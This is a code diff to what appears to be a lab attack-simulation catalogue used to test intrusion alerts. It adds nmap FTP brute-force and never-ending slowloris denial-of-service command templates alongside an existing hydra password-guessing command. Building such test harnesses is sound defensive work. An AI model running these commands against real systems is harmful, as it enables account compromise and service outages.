@@ -47,6 +47,13 @@ export const loginsAndTunnels: readonly Attack[] = [
     'web',
     (_site, tries, words, target) => `hydra -I -l alice -P ${words} -t ${Math.min(tries, 8)} http-get://${target}/private`,
   ),
+  guess(
+    'nmap',
+    'ftp',
+    'files',
+    (_site, tries, words, target) =>
+      `nmap -n -Pn -p 21 --max-parallelism ${Math.min(tries, 8)} --script ftp-brute --script-args userdb=${words},passdb=${words} ${target}`,
+  ),
   {
     class: 'slow-http',
     alerts: ['dos.slow'],
@@ -58,6 +65,23 @@ export const loginsAndTunnels: readonly Attack[] = [
       single(
         'evil',
         `slowhttptest -H -c 150 -r ${Math.round(rate)} -i 5 -l 15 -u http://${site.address('web')}/`,
+        [site.address('evil')],
+        [site.address('web')],
+        25,
+      ),
+  },
+  {
+    class: 'slow-http',
+    alerts: ['dos.slow'],
+    technique: 'T1499.002',
+    tool: 'nmap',
+    needs: ['nmap'],
+    speeds: { fast: [100, 200], medium: [50, 80] },
+    // It opens as many connections at once as it may, and does not end by itself.
+    plan: (site, rate) =>
+      single(
+        'evil',
+        `nmap -n -Pn -p 80 --max-parallelism ${Math.round(rate)} --script http-slowloris --script-args http-slowloris.runforever ${site.address('web')}`,
         [site.address('evil')],
         [site.address('web')],
         25,
